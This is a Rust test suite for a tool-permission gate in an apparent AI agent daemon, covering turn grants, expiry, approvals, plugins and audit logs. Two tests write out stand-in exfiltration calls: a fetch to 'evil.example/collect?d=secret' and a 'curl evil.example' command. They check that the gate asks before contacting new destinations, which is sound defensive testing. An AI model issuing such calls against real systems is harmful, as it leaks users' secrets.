//! The gate as a whole: turns, grants, expiry, the audit trail, and plugins as
//! callers. Real SQLite files in temp directories, a manual clock. (Running an allowed
//! tool for a plugin, the runtime's `ToolGate`, is the turn service's: its tests.)

use std::path::Path;
use std::sync::Arc;

use super::*;
use crate::config::ToolLevel;
use crate::credentials::{Principal, Via};
use crate::described::Described;

/// The person, through the operator token.
const PERSON: Principal = Principal::Person(Via::OperatorToken);
use crate::time::{MINUTE_MS, ManualClock};

const T0: i64 = 1_790_000_000_000;

struct Fixture {
    _dir: tempfile::TempDir,
    data_dir: DataDir,
    clock: ManualClock,
    gate: Gate,
}

fn fixture(policy: Policy) -> Fixture {
    let dir = tempfile::tempdir().expect("tempdir");
    let data_dir = DataDir::new(dir.path().to_path_buf());
    let clock = ManualClock::new(T0);
    let gate = Gate::open(
        &data_dir,
        Arc::new(FixedPolicy(Arc::new(policy))),
        Arc::new(clock.clone()),
    )
    .expect("gate");
    Fixture {
        _dir: dir,
        data_dir,
        clock,
        gate,
    }
}

/// The gate over `data_dir` again, as a restarted daemon opens it.
fn reopen(data_dir: &DataDir, clock: &ManualClock) -> Gate {
    Gate::open(
        data_dir,
        Arc::new(FixedPolicy(Arc::new(Policy::default()))),
        Arc::new(clock.clone()),
    )
    .expect("reopen")
}

/// A skill listing `tools`, which the person granted it.
fn skill(slug: &str, tools: &[&str]) -> Option<SkillGrant> {
    Some(SkillGrant {
        skill: slug.to_string(),
        allowed_tools: tools.iter().map(|t| t.to_string()).collect(),
        granted_tools: tools.iter().map(|t| t.to_string()).collect(),
    })
}

fn turn(gate: &Gate, user: &str, grant: Option<SkillGrant>) -> Turn {
    gate.open_turn(NewTurn {
        user: user.to_string(),
        conversation_id: Some("conv_1".into()),
        channel: Some("cli".into()),
        opened_by: "agent".into(),
        skill: grant,
        destinations: Vec::new(),
    })
    .expect("open turn")
}

/// The audit log's entries for `turn`, newest first.
fn turn_audit(gate: &Gate, turn: &Turn) -> AuditPage {
    gate.audit()
        .list(&AuditQuery {
            turn_id: Some(turn.id.clone()),
            ..AuditQuery::default()
        })
        .expect("list the audit log")
}

fn verdict(gate: &Gate, turn: &Turn, tool: &str) -> (Verdict, ReasonCode) {
    let d = gate.decide(&turn.id, &turn.user, tool, "{}");
    (d.verdict, d.code)
}

#[test]
fn gate_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Gate>();
}

#[test]
fn granted_in_turn_n_denied_in_turn_n_plus_1_and_after_expiry() {
    let f = fixture(Policy::default());
    let n = turn(&f.gate, "u", skill("web-search", &["fetch_url"]));
    assert_eq!(n.expires_at - n.opened_at, 10 * MINUTE_MS);
    assert_eq!(
        verdict(&f.gate, &n, "fetch_url"),
        (Verdict::Allow, ReasonCode::SkillGrant)
    );
    f.gate.end_turn(&n.id, "u").expect("end");
    // Ended: revoked.
    assert_eq!(
        verdict(&f.gate, &n, "fetch_url"),
        (Verdict::Deny, ReasonCode::TurnEnded)
    );
    // The next turn invokes no skill: the policy applies as is (ask, not allow).
    let n1 = turn(&f.gate, "u", None);
    assert_eq!(
        verdict(&f.gate, &n1, "fetch_url"),
        (Verdict::Ask, ReasonCode::PolicyAsk)
    );
    // A turn left open expires with its grants.
    let n2 = turn(&f.gate, "u", skill("web-search", &["fetch_url"]));
    f.clock.advance(10 * MINUTE_MS - 1);
    assert_eq!(
        verdict(&f.gate, &n2, "fetch_url"),
        (Verdict::Allow, ReasonCode::SkillGrant)
    );
    f.clock.advance(1);
    assert_eq!(
        verdict(&f.gate, &n2, "fetch_url"),
        (Verdict::Deny, ReasonCode::TurnExpired)
    );
    // Every decision in an expired turn is deny, even a tool the policy allows.
    assert_eq!(
        verdict(&f.gate, &n1, "search_memory"),
        (Verdict::Deny, ReasonCode::TurnExpired)
    );
    assert_eq!(
        f.gate
            .turn(&n2.id, &n2.user)
            .expect("read")
            .map(|(_, state)| state),
        Some(TurnState::Expired)
    );
    assert_eq!(
        f.gate.decide("turn_unknown", "u", "search_memory", "").code,
        ReasonCode::UnknownTurn
    );
}

#[test]
fn the_turn_lifetime_comes_from_the_policy() {
    let f = fixture(Policy::default().with_turn_ttl_ms(2 * MINUTE_MS));
    let t = turn(&f.gate, "u", None);
    assert_eq!(t.expires_at, T0 + 2 * MINUTE_MS);
    f.clock.advance(2 * MINUTE_MS);
    assert_eq!(
        verdict(&f.gate, &t, "search_memory"),
        (Verdict::Deny, ReasonCode::TurnExpired)
    );
}

#[test]
fn a_tool_outside_allowed_tools_is_denied_during_a_skill_turn() {
    let f = fixture(Policy::default());
    let t = turn(&f.gate, "u", skill("web-search", &["fetch_url"]));
    for tool in ["read_skill_file", "run_command", "cd", "Read"] {
        assert_eq!(
            verdict(&f.gate, &t, tool),
            (Verdict::Deny, ReasonCode::NotInAllowedTools),
            "{tool}"
        );
    }
    assert_eq!(
        verdict(&f.gate, &t, "Frobnicate"),
        (Verdict::Deny, ReasonCode::UnknownTool)
    );
    // Engram's memory tools stay at the policy's level for a skill that names
    // neither; one that names one of them decided about memory.
    assert_eq!(
        verdict(&f.gate, &t, "search_memory"),
        (Verdict::Allow, ReasonCode::PolicyAllow)
    );
    let recall = turn(&f.gate, "u", skill("recall", &["search_memory"]));
    assert_eq!(
        verdict(&f.gate, &recall, "save_memory"),
        (Verdict::Deny, ReasonCode::NotInAllowedTools)
    );
}

#[test]
fn a_skill_without_allowed_tools_leaves_the_turn_to_the_policy() {
    let f = fixture(Policy::default().with_level("cd", ToolLevel::Deny));
    let plain = turn(&f.gate, "u", None);
    let t = turn(&f.gate, "u", skill("notes", &[]));
    for tool in [
        "search_memory",
        "save_memory",
        "fetch_url",
        "run_command",
        "cd",
        "Frobnicate",
    ] {
        assert_eq!(
            verdict(&f.gate, &t, tool),
            verdict(&f.gate, &plain, tool),
            "{tool}"
        );
    }
    assert_eq!(
        verdict(&f.gate, &t, "search_memory"),
        (Verdict::Allow, ReasonCode::PolicyAllow)
    );
    assert_eq!(
        verdict(&f.gate, &t, "fetch_url"),
        (Verdict::Ask, ReasonCode::PolicyAsk)
    );
}

#[test]
fn an_operator_deny_beats_a_skill_grant() {
    let f = fixture(Policy::default().with_level("fetch_url", ToolLevel::Deny));
    let t = turn(&f.gate, "u", skill("web-search", &["fetch_url"]));
    assert_eq!(
        verdict(&f.gate, &t, "fetch_url"),
        (Verdict::Deny, ReasonCode::OperatorDeny)
    );
}

#[test]
fn ask_is_raised_to_allow_only_for_the_skills_tools_and_only_in_its_turn() {
    let f = fixture(Policy::default());
    let tweet = turn(
        &f.gate,
        "u",
        skill("tweet-notifier", &["send_message", "fetch_url"]),
    );
    let plain = turn(&f.gate, "u", None);
    let other = turn(&f.gate, "u", skill("screenshot", &["run_command"]));
    assert_eq!(
        verdict(&f.gate, &tweet, "send_message"),
        (Verdict::Allow, ReasonCode::SkillGrant)
    );
    // Same tool, open at the same time: no skill asks, another skill denies.
    assert_eq!(
        verdict(&f.gate, &plain, "send_message"),
        (Verdict::Ask, ReasonCode::PolicyAsk)
    );
    assert_eq!(
        verdict(&f.gate, &other, "send_message"),
        (Verdict::Deny, ReasonCode::NotInAllowedTools)
    );
    // Not listed by the skill: not raised.
    assert_eq!(
        verdict(&f.gate, &tweet, "write_file"),
        (Verdict::Deny, ReasonCode::NotInAllowedTools)
    );
}

#[test]
fn two_concurrent_turns_never_see_each_others_grants() {
    const THREADS: usize = 8;
    const ROUNDS: usize = 50;
    let mut policy = Policy::default();
    for i in 0..THREADS {
        policy = policy.with_level(&format!("tool_{i}"), ToolLevel::Ask);
    }
    let f = fixture(policy);
    let gate = &f.gate;
    std::thread::scope(|scope| {
        for i in 0..THREADS {
            scope.spawn(move || {
                for _ in 0..ROUNDS {
                    let own = format!("tool_{i}");
                    let t = turn(gate, &format!("user_{i}"), skill(&format!("s{i}"), &[&own]));
                    for j in 0..THREADS {
                        let tool = format!("tool_{j}");
                        let d = gate.decide(&t.id, &t.user, &tool, "{}");
                        if j == i {
                            assert_eq!(d.verdict, Verdict::Allow, "{tool} in {i}");
                        } else {
                            assert_eq!(
                                (d.verdict, d.code),
                                (Verdict::Deny, ReasonCode::NotInAllowedTools),
                                "{tool} in {i}"
                            );
                        }
                    }
                    gate.end_turn(&t.id, &t.user).expect("end");
                    assert_eq!(
                        gate.decide(&t.id, &t.user, &own, "").code,
                        ReasonCode::TurnEnded
                    );
                }
            });
        }
    });
    let decisions = (THREADS * ROUNDS * (THREADS + 1)) as i64;
    assert_eq!(f.gate.audit().count().expect("count"), decisions);
}

#[test]
fn unknown_allowed_tools_are_reported_under_the_policy_in_force() {
    use crate::skills::library::ToolCheck;
    let policy = Policy::default().with_level("my_tool", ToolLevel::Ask);
    let check = AllowedToolsCheck(Arc::new(FixedPolicy(Arc::new(policy))));
    let allowed: Vec<String> = [
        "fetch_url",
        "my_tool",
        "Bash(git *)",
        "Edit(*.ts)",
        "Send_Message",
        "Read",
        "Frobnicate(((",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let warnings: Vec<(String, String)> = check
        .not_understood(&allowed)
        .into_iter()
        .map(|w| (w.code().to_string(), w.message()))
        .collect();
    let said = |entry: &str, detail: &str| {
        (
            "tool-not-understood".to_string(),
            format!("`allowed-tools`: `{entry}` {detail}"),
        )
    };
    assert_eq!(
        warnings,
        [
            said(
                "Edit(*.ts)",
                "is scoped by arguments, which the gate cannot enforce; it grants nothing"
            ),
            (
                "tool-not-understood".to_string(),
                "`allowed-tools`: unknown tool `Send_Message` (did you mean `send_message`?); it grants nothing".to_string()
            ),
            said(
                "Frobnicate(((",
                "is not a tool name nor `Tool(specifier)` (a `(` without its closing `)`); it grants nothing"
            ),
        ]
    );
}

#[test]
fn every_decision_is_audited_and_paged() {
    let f = fixture(Policy::default());
    let t = turn(&f.gate, "alice", skill("web-search", &["fetch_url"]));
    f.gate.decide(
        &t.id,
        "alice",
        "fetch_url",
        r#"{"url":"https://example.org","token":"s3"}"#,
    );
    f.gate.decide(&t.id, "alice", "run_command", "{}");
    f.gate.decide("turn_missing", "alice", "fetch_url", "{}");
    f.gate.end_turn(&t.id, &t.user).expect("end");
    f.clock.advance(1_000);
    f.gate.decide(&t.id, "alice", "fetch_url", "{}");

    let all = f.gate.audit().list(&AuditQuery::default()).expect("list");
    assert_eq!(all.items.len(), 4);
    assert_eq!(all.next_cursor, None);
    let codes: Vec<ReasonCode> = all.items.iter().map(|e| e.code).collect();
    assert_eq!(
        codes,
        [
            ReasonCode::TurnEnded,
            ReasonCode::UnknownTurn,
            ReasonCode::NotInAllowedTools,
            ReasonCode::SkillGrant,
        ]
    );
    let first = &all.items[3];
    assert_eq!(first.turn_id.as_deref(), Some(t.id.as_str()));
    assert_eq!(first.user.as_deref(), Some("alice"));
    assert_eq!(first.skill.as_deref(), Some("web-search"));
    assert_eq!(first.caller, "agent");
    assert_eq!(first.tool, "fetch_url");
    assert_eq!(first.decision, Verdict::Allow);
    assert_eq!(first.at, T0);
    assert!(first.reason.contains("web-search"), "{}", first.reason);
    assert_eq!(
        first.args_summary,
        r#"{"token":"***","url":"https://example.org"}"#
    );
    assert_eq!(all.items[0].at, T0 + 1_000);
    // An unknown turn's decision is recorded under the caller's user, with no skill.
    assert_eq!(all.items[1].user.as_deref(), Some("alice"));
    assert_eq!(all.items[1].skill, None);

    // The turn's own decisions, two to a page.
    let page1 = f
        .gate
        .audit()
        .list(&AuditQuery {
            limit: 2,
            turn_id: Some(t.id.clone()),
            ..AuditQuery::default()
        })
        .expect("page 1");
    assert_eq!(page1.items.len(), 2);
    assert!(page1.next_cursor.is_some());
    let page2 = f
        .gate
        .audit()
        .list(&AuditQuery {
            limit: 2,
            cursor: page1.next_cursor.clone(),
            turn_id: Some(t.id.clone()),
            ..AuditQuery::default()
        })
        .expect("page 2");
    assert_eq!(page2.items.len(), 1);
    assert_eq!(page2.items[0].code, ReasonCode::SkillGrant);
    assert_eq!(page2.next_cursor, None);
    let page1 = f
        .gate
        .audit()
        .list(&AuditQuery {
            limit: 2,
            ..AuditQuery::default()
        })
        .expect("page 1");
    let page2 = f
        .gate
        .audit()
        .list(&AuditQuery {
            limit: 2,
            cursor: page1.next_cursor.clone(),
            ..AuditQuery::default()
        })
        .expect("page 2");
    let seqs: Vec<i64> = page1
        .items
        .iter()
        .chain(&page2.items)
        .map(|e| e.seq)
        .collect();
    assert_eq!(seqs, [4, 3, 2, 1]);
    assert_eq!(page2.next_cursor, None);
}

#[test]
fn the_turns_and_the_audit_log_survive_reopening_the_gate() {
    let f = fixture(Policy::default());
    let t = turn(&f.gate, "u", None);
    f.gate.decide(&t.id, "u", "fetch_url", "{}");
    f.gate.decide(&t.id, "u", "search_memory", "{}");
    let path = f.gate.audit().path().map(Path::to_path_buf);
    assert_eq!(path, Some(audit_path(&f.data_dir)));
    drop(f.gate);
    let gate = reopen(&f.data_dir, &f.clock);
    // The turn outlives the restart for the rest of its lifetime, as it would a
    // restart of one daemon of several on one database; so does the log.
    let (kept, state) = gate.turn(&t.id, "u").expect("read").expect("kept");
    assert_eq!((kept, state), (t.clone(), TurnState::Open));
    assert_eq!(
        gate.decide(&t.id, "u", "search_memory", "").code,
        ReasonCode::PolicyAllow
    );
    gate.end_turn(&t.id, "u").expect("end");
    assert_eq!(
        gate.decide(&t.id, "u", "fetch_url", "").code,
        ReasonCode::TurnEnded
    );
    let page = gate.audit().list(&AuditQuery::default()).expect("list");
    let codes: Vec<ReasonCode> = page.items.iter().map(|e| e.code).collect();
    assert_eq!(
        codes,
        [
            ReasonCode::TurnEnded,
            ReasonCode::PolicyAllow,
            ReasonCode::PolicyAllow,
            ReasonCode::PolicyAsk
        ]
    );
}

#[test]
fn plugin_calls_cross_the_same_gate() {
    let f = fixture(Policy::default().with_level("send_file", ToolLevel::Deny));
    let t = turn(
        &f.gate,
        "u",
        skill("tweet-notifier", &["fetch_url", "send_file"]),
    );
    let plain = turn(&f.gate, "u", None);
    let plugin = |turn_id: Option<&str>, user: &str, tool: &str| {
        let caller = Caller::Plugin { name: "p", user };
        let d = f.gate.decide_as(caller, turn_id, tool, "{}");
        (d.verdict, d.code)
    };
    let denied = |code| (Verdict::Deny, code);
    assert_eq!(plugin(None, "u", "fetch_url"), denied(ReasonCode::NoTurn));
    assert_eq!(
        plugin(Some(&t.id), "mallory", "fetch_url"),
        denied(ReasonCode::UserMismatch)
    );
    assert_eq!(
        plugin(Some(&plain.id), "u", "fetch_url"),
        denied(ReasonCode::ApprovalUnavailable)
    );
    assert_eq!(
        plugin(Some(&t.id), "u", "send_file"),
        denied(ReasonCode::OperatorDeny)
    );
    assert_eq!(
        plugin(Some(&t.id), "u", "Frobnicate"),
        denied(ReasonCode::UnknownTool)
    );
    assert_eq!(
        plugin(Some(&t.id), "u", "fetch_url"),
        (Verdict::Allow, ReasonCode::SkillGrant)
    );
    let page = f.gate.audit().list(&AuditQuery::default()).expect("list");
    assert_eq!(page.items.len(), 6);
    assert!(page.items.iter().all(|e| e.caller == "plugin:p"));
    assert_eq!(page.items[5].user.as_deref(), Some("u"));
}

#[test]
fn the_policy_follows_config_yaml() {
    let dir = tempfile::tempdir().expect("tempdir");
    let data_dir = DataDir::new(dir.path().to_path_buf());
    let file = Arc::new(ConfigFile::new(data_dir.config_file()));
    let clock = ManualClock::new(T0);
    let gate = Gate::open(
        &data_dir,
        Arc::new(ConfigPolicy::new(file)),
        Arc::new(clock.clone()),
    )
    .expect("gate");
    let t = turn(&gate, "u", None);
    assert_eq!(verdict(&gate, &t, "save_memory").0, Verdict::Ask);
    std::fs::write(
        data_dir.config_file(),
        "tools:\n  policy:\n    save_memory: allow\n",
    )
    .expect("write");
    assert_eq!(verdict(&gate, &t, "save_memory").0, Verdict::Allow);
    // A broken file keeps the last good policy, not the laxer or stricter default.
    std::fs::write(
        data_dir.config_file(),
        "tools:\n  policy:\n    save_memory: maybe\n  # longer\n",
    )
    .expect("write");
    assert_eq!(verdict(&gate, &t, "save_memory").0, Verdict::Allow);
}

#[test]
fn full_turn_table_is_refused_not_evicted() {
    let f = fixture(Policy::default());
    let gate = f.gate.with_turn_cap(2);
    let a = turn(&gate, "u", skill("web-search", &["fetch_url"]));
    let _b = turn(&gate, "u", None);
    let err = gate
        .open_turn(NewTurn {
            user: "u".into(),
            ..NewTurn::default()
        })
        .expect_err("full");
    assert_eq!(err.describe().code, "too-many-turns");
    assert_eq!(
        verdict(&gate, &a, "fetch_url"),
        (Verdict::Allow, ReasonCode::SkillGrant)
    );
}

#[test]
fn an_approval_allows_an_asked_tool_in_its_turn_only() {
    let f = fixture(Policy::default());
    let t = turn(&f.gate, "alice", None);
    let other = turn(&f.gate, "alice", None);
    assert_eq!(
        verdict(&f.gate, &t, "save_memory"),
        (Verdict::Ask, ReasonCode::PolicyAsk)
    );
    f.clock.advance(1_000);
    let approved = f
        .gate
        .approve(&t.id, "alice", "save_memory", None, &PERSON)
        .expect("approve");
    let decision = &approved.decision;
    assert_eq!(
        (decision.verdict, decision.code),
        (Verdict::Allow, ReasonCode::Approved)
    );
    assert!(decision.reason.contains("person"), "{}", decision.reason);
    let approval = Approval {
        tool: "save_memory".into(),
        args_summary: None,
        args_key: None,
        approved_at: T0 + 1_000,
    };
    assert_eq!(approved.approval, approval);
    assert_eq!(approved.turn.approvals, [approval]);
    assert_eq!(
        verdict(&f.gate, &t, "save_memory"),
        (Verdict::Allow, ReasonCode::Approved)
    );
    // Only that tool, only that turn.
    assert_eq!(
        verdict(&f.gate, &t, "fetch_url"),
        (Verdict::Ask, ReasonCode::PolicyAsk)
    );
    assert_eq!(
        verdict(&f.gate, &other, "save_memory"),
        (Verdict::Ask, ReasonCode::PolicyAsk)
    );
    // A plugin in the turn may use it too: the operator said yes for the turn.
    let caller = Caller::Plugin {
        name: "p",
        user: "alice",
    };
    assert_eq!(
        f.gate
            .decide_as(caller, Some(&t.id), "save_memory", "{}")
            .code,
        ReasonCode::Approved
    );
    // Ended: gone with the turn; the next turn asks again.
    f.gate.end_turn(&t.id, &t.user).expect("end");
    assert_eq!(
        verdict(&f.gate, &t, "save_memory"),
        (Verdict::Deny, ReasonCode::TurnEnded)
    );
    let next = turn(&f.gate, "alice", None);
    assert_eq!(
        verdict(&f.gate, &next, "save_memory"),
        (Verdict::Ask, ReasonCode::PolicyAsk)
    );
    assert!(matches!(
        f.gate.approve(&t.id, "alice", "save_memory", None, &PERSON),
        Err(GateError::TurnEnded(_))
    ));
    // Expired: gone too, and no longer approvable.
    f.gate
        .approve(&next.id, "alice", "save_memory", None, &PERSON)
        .expect("approve");
    f.clock.advance(10 * MINUTE_MS);
    assert_eq!(
        verdict(&f.gate, &next, "save_memory"),
        (Verdict::Deny, ReasonCode::TurnExpired)
    );
    assert!(matches!(
        f.gate
            .approve(&next.id, "alice", "save_memory", None, &PERSON),
        Err(GateError::TurnExpired(_))
    ));
    assert!(matches!(
        f.gate
            .approve("turn_nope", "alice", "save_memory", None, &PERSON),
        Err(GateError::UnknownTurn(_))
    ));

    // The approvals are in the audit log, as the operator token's.
    let page = turn_audit(&f.gate, &t);
    let approval = page
        .items
        .iter()
        .find(|e| e.caller == "operator")
        .expect("the approval is audited");
    assert_eq!(approval.tool, "save_memory");
    assert_eq!(approval.decision, Verdict::Allow);
    assert_eq!(approval.code, ReasonCode::Approved);
    assert_eq!(approval.user.as_deref(), Some("alice"));
    assert!(
        approval.reason.contains("person approved"),
        "{}",
        approval.reason
    );
}

#[test]
fn a_denied_or_unknown_tool_cannot_be_approved() {
    let f = fixture(Policy::default().with_level("fetch_url", ToolLevel::Deny));
    let plain = turn(&f.gate, "u", None);
    match f.gate.approve(&plain.id, "u", "fetch_url", None, &PERSON) {
        Err(e @ GateError::NotApprovable { .. }) => {
            assert_eq!(e.describe().code, "operator-deny");
            assert!(e.to_string().contains("never a deny"), "{e}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        verdict(&f.gate, &plain, "fetch_url"),
        (Verdict::Deny, ReasonCode::OperatorDeny)
    );
    assert!(matches!(
        f.gate.approve(&plain.id, "u", "Frobnicate", None, &PERSON),
        Err(GateError::UnknownTool(_))
    ));
    // While a skill is invoked, a tool outside its allowed-tools stays denied.
    let web = turn(&f.gate, "u", skill("web-search", &["fetch_url"]));
    assert!(matches!(
        f.gate.approve(&web.id, "u", "run_command", None, &PERSON),
        Err(GateError::NotApprovable {
            code: ReasonCode::NotInAllowedTools,
            ..
        })
    ));
    // Nothing refused was recorded as approved.
    let page = f.gate.audit().list(&AuditQuery::default()).expect("list");
    assert!(page.items.iter().all(|e| e.caller != "operator"));
}

#[test]
fn only_the_person_approves_and_the_agents_attempt_is_audited_as_refused() {
    let f = fixture(Policy::default());
    let t = turn(&f.gate, "alice", None);
    match f
        .gate
        .approve(&t.id, "alice", "fetch_url", None, &Principal::Agent)
    {
        Err(e @ GateError::PersonRequired(_)) => {
            assert_eq!(e.describe().code, "person-required");
            assert!(e.to_string().contains("operator token"), "{e}");
        }
        other => panic!("expected person-required, got {other:?}"),
    }
    // Nothing was granted: the tool is still asked about.
    assert_eq!(
        verdict(&f.gate, &t, "fetch_url"),
        (Verdict::Ask, ReasonCode::PolicyAsk)
    );
    let page = turn_audit(&f.gate, &t);
    let refusal = page
        .items
        .iter()
        .find(|e| e.code == ReasonCode::PersonRequired)
        .expect("the refusal is audited");
    assert_eq!(refusal.caller, "agent");
    assert_eq!(refusal.decision, Verdict::Deny);
    assert_eq!(refusal.tool, "fetch_url");
    assert!(page.items.iter().all(|e| e.code != ReasonCode::Approved));

    // Each way the person reaches the daemon is named in the log.
    for (via, caller) in [
        (Via::Dashboard, "dashboard"),
        (Via::Channel("telegram".into()), "person:telegram"),
    ] {
        let t = turn(&f.gate, "alice", None);
        let approved = f
            .gate
            .approve(&t.id, "alice", "fetch_url", None, &Principal::Person(via))
            .expect("approve");
        assert_eq!(approved.decision.code, ReasonCode::Approved);
        let page = turn_audit(&f.gate, &t);
        assert_eq!(page.items[0].caller, caller);
    }
}

#[test]
fn another_users_turn_is_unknown_to_the_agent_and_logged_under_the_caller() {
    let f = fixture(Policy::default());
    let t = turn(&f.gate, "alice", skill("web-search", &["fetch_url"]));
    assert!(f.gate.turn(&t.id, "bob").expect("read").is_none());
    let d = f.gate.decide(&t.id, "bob", "fetch_url", "{}");
    assert_eq!(
        (d.verdict, d.code),
        (Verdict::Deny, ReasonCode::UnknownTurn)
    );
    assert!(matches!(
        f.gate.approve(&t.id, "bob", "fetch_url", None, &PERSON),
        Err(GateError::UnknownTurn(_))
    ));
    let bobs = f
        .gate
        .audit()
        .list(&AuditQuery {
            user: Some("bob".into()),
            ..AuditQuery::default()
        })
        .expect("list");
    assert_eq!(bobs.items.len(), 1);
    assert_eq!(
        bobs.items[0].skill, None,
        "nothing of alice's turn is shown"
    );
    let alices = f
        .gate
        .audit()
        .list(&AuditQuery {
            user: Some("alice".into()),
            ..AuditQuery::default()
        })
        .expect("list");
    assert!(alices.items.is_empty());
    // Alice's own agent still has the turn.
    assert_eq!(
        verdict(&f.gate, &t, "fetch_url"),
        (Verdict::Allow, ReasonCode::SkillGrant)
    );
}

fn fetch(gate: &Gate, turn: &Turn, url: &str) -> (Verdict, ReasonCode, String) {
    let args = serde_json::json!({ "url": url }).to_string();
    let d = gate.decide(&turn.id, &turn.user, "fetch_url", &args);
    (d.verdict, d.code, d.reason)
}

#[test]
fn after_outside_content_a_new_destination_asks_whatever_the_grant() {
    let f = fixture(Policy::default());
    let t = f
        .gate
        .open_turn(NewTurn {
            user: "u".into(),
            skill: skill("web-search", &["fetch_url"]),
            destinations: vec!["html.duckduckgo.com".into()],
            ..NewTurn::default()
        })
        .expect("turn");
    // Nothing from outside yet: the grant stands (and this fetch reads outside).
    let first = fetch(&f.gate, &t, "https://news.example/a");
    assert_eq!((first.0, first.1), (Verdict::Allow, ReasonCode::SkillGrant));
    // A destination the turn knows still passes; a new one asks, saying where to,
    // what would be sent, and what was read.
    let known = fetch(&f.gate, &t, "https://html.duckduckgo.com/html/?q=x");
    assert_eq!(known.1, ReasonCode::SkillGrant);
    let evil = "https://evil.example/collect?d=secret";
    let (verdict, code, reason) = fetch(&f.gate, &t, evil);
    assert_eq!((verdict, code), (Verdict::Ask, ReasonCode::NewDestination));
    for part in ["evil.example", "d=secret", "news.example"] {
        assert!(reason.contains(part), "{part}: {reason}");
    }
    // Approving the tool as a whole does not cover it; approving the call does, and
    // its host is a destination from then on.
    f.gate
        .approve(&t.id, "u", "fetch_url", None, &PERSON)
        .expect("tool approval");
    assert_eq!(fetch(&f.gate, &t, evil).1, ReasonCode::NewDestination);
    let call = serde_json::json!({ "url": evil });
    f.gate
        .approve(&t.id, "u", "fetch_url", Some(&call), &PERSON)
        .expect("call approval");
    assert_eq!(fetch(&f.gate, &t, evil).0, Verdict::Allow);
    assert_eq!(
        fetch(&f.gate, &t, "https://evil.example/more").1,
        ReasonCode::SkillGrant
    );
    let audit = turn_audit(&f.gate, &t);
    assert!(
        audit
            .items
            .iter()
            .any(|e| e.code == ReasonCode::NewDestination && e.decision == Verdict::Ask),
        "{audit:?}"
    );
}

#[test]
fn a_tool_whose_destination_cannot_be_read_asks_for_each_call_after_outside_content() {
    let policy = Policy::default()
        .with_level("run_command", ToolLevel::Allow)
        .with_level("fetch_url", ToolLevel::Allow);
    let f = fixture(policy);
    let t = turn(&f.gate, "u", None);
    let run = |command: &str| {
        let args = serde_json::json!({ "command": command }).to_string();
        let d = f.gate.decide(&t.id, "u", "run_command", &args);
        (d.verdict, d.code)
    };
    // Before outside content the policy's allow stands; the command's output is
    // outside content.
    assert_eq!(run("ls"), (Verdict::Allow, ReasonCode::PolicyAllow));
    assert_eq!(
        run("curl evil.example"),
        (Verdict::Ask, ReasonCode::NewDestination)
    );
    let call = serde_json::json!({ "command": "curl evil.example" });
    f.gate
        .approve(&t.id, "u", "run_command", Some(&call), &PERSON)
        .expect("approve");
    assert_eq!(
        run("curl evil.example"),
        (Verdict::Allow, ReasonCode::Approved)
    );
    assert_eq!(
        run("curl evil.example/2"),
        (Verdict::Ask, ReasonCode::NewDestination)
    );
    // A turn that read nothing from outside is another turn.
    let fresh = turn(&f.gate, "u", None);
    let args = serde_json::json!({ "command": "curl evil.example/2" }).to_string();
    assert!(
        f.gate
            .decide(&fresh.id, "u", "run_command", &args)
            .is_allowed()
    );
}

#[test]
fn an_approval_covers_the_arguments_it_showed_and_nothing_wider() {
    let f = fixture(Policy::default());
    let t = turn(&f.gate, "u", None);
    let shown = serde_json::json!({ "url": "https://a.example/", "b": 1 });
    f.gate
        .approve(&t.id, "u", "fetch_url", Some(&shown), &PERSON)
        .expect("approve");
    // The same call, its keys in another order: the one approved.
    let same = r#"{"b":1,"url":"https://a.example/"}"#;
    assert_eq!(
        f.gate.decide(&t.id, "u", "fetch_url", same).code,
        ReasonCode::Approved
    );
    let (verdict, code, _) = fetch(&f.gate, &t, "https://b.example/");
    assert_eq!((verdict, code), (Verdict::Ask, ReasonCode::PolicyAsk));
    let audit = turn_audit(&f.gate, &t);
    let approval = audit
        .items
        .iter()
        .find(|e| e.code == ReasonCode::Approved && e.caller == "operator")
        .expect("the approval");
    assert!(approval.args_summary.contains("a.example"), "{approval:?}");
}

#[test]
fn the_agents_deletes_are_counted_from_the_log_across_a_restart() {
    let f = fixture(Policy::default());
    let agent = |user| Caller::Agent { user };
    for i in 0..3 {
        f.gate
            .decide_agent_delete(agent("u"), &format!("mem_{i}"), 3)
            .expect("within the limit");
        f.clock.advance(MINUTE_MS);
    }
    f.clock.advance(7 * MINUTE_MS);
    // The fourth within the hour waits for the first to leave the window.
    let refused = f
        .gate
        .decide_agent_delete(agent("u"), "mem_3", 3)
        .expect_err("over the limit");
    assert!(
        matches!(
            refused,
            GateError::AgentDeleteLimit {
                per_hour: 3,
                retry_after_secs: 3_000
            }
        ),
        "{refused:?}"
    );
    // Another user has a window of their own.
    f.gate
        .decide_agent_delete(agent("v"), "mem_9", 3)
        .expect("another user");
    // A restart forgets nothing: the window is the log. A refusal counts nothing.
    drop(f.gate);
    let gate = reopen(&f.data_dir, &f.clock);
    assert!(gate.decide_agent_delete(agent("u"), "mem_3", 3).is_err());
    f.clock.advance(50 * MINUTE_MS);
    gate.decide_agent_delete(agent("u"), "mem_3", 3)
        .expect("the first left the window");
    assert!(gate.decide_agent_delete(agent("u"), "mem_4", 3).is_err());
    // A limit of zero allows nothing, and says to wait an hour.
    assert!(matches!(
        gate.decide_agent_delete(agent("w"), "mem_5", 0),
        Err(GateError::AgentDeleteLimit {
            retry_after_secs: 3_600,
            ..
        })
    ));
    let page = gate
        .audit()
        .list(&AuditQuery {
            user: Some("u".into()),
            ..AuditQuery::default()
        })
        .expect("list");
    let codes: Vec<ReasonCode> = page.items.iter().map(|e| e.code).collect();
    assert_eq!(
        codes,
        [
            ReasonCode::AgentDeleteLimit,
            ReasonCode::AgentDelete,
            ReasonCode::AgentDeleteLimit,
            ReasonCode::AgentDeleteLimit,
            ReasonCode::AgentDelete,
            ReasonCode::AgentDelete,
            ReasonCode::AgentDelete,
        ]
    );
}
